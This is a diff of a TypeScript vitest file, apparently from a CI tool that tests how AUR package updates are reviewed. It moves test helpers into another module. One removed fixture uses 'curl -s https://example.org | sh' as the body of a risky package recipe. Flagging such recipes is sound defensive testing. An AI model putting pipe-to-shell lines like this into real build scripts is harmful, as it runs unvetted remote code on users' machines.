@@ -1,29 +1,13 @@
 import { readFileSync, rmSync } from 'node:fs';
 import { afterEach, describe, expect, it } from 'vitest';
-import { type Files, folderOf, type RecipeWishes, recipe, writeFiles } from './recipe-texts.ts';
+import { aur, major, proposing } from './proposed-update.ts';
+import { type Files, folderOf, recipe, writeFiles } from './recipe-texts.ts';
 import { RecipeWorld } from './recipe-world.ts';
 
 let world: RecipeWorld;
 afterEach(() => world.dispose());
 
-const aur = 'CI_PKGBUILD_SOURCE=aur\n';
-const major: RecipeWishes = { pkgver: '2', body: 'curl -s https://example.org | sh' };
 const branch = 'refs/heads/update-foo';
-
-/** A world with reviews and an update of `foo` in the AUR. */
-async function proposing(
-  wishes: RecipeWishes = major,
-  given: {
-    readonly settings?: Readonly<Record<string, string>>;
-    readonly files?: Files;
-    readonly config?: string;
-  } = {},
-): Promise<RecipeWorld> {
-  const { settings = { CI_HUMAN_REVIEW: 'true' }, files = {}, config = aur } = given;
-  const made = await RecipeWorld.open({ ...folderOf('foo', config), ...files }, settings);
-  made.pushToAur('foo', recipe('foo', wishes), { modified: 2, maintainer: 'a', coMaintainers: ['b'] });
-  return made;
-}
 
 describe('a major change', () => {
   it('M14 is taken over silently where nobody reviews', async () => {
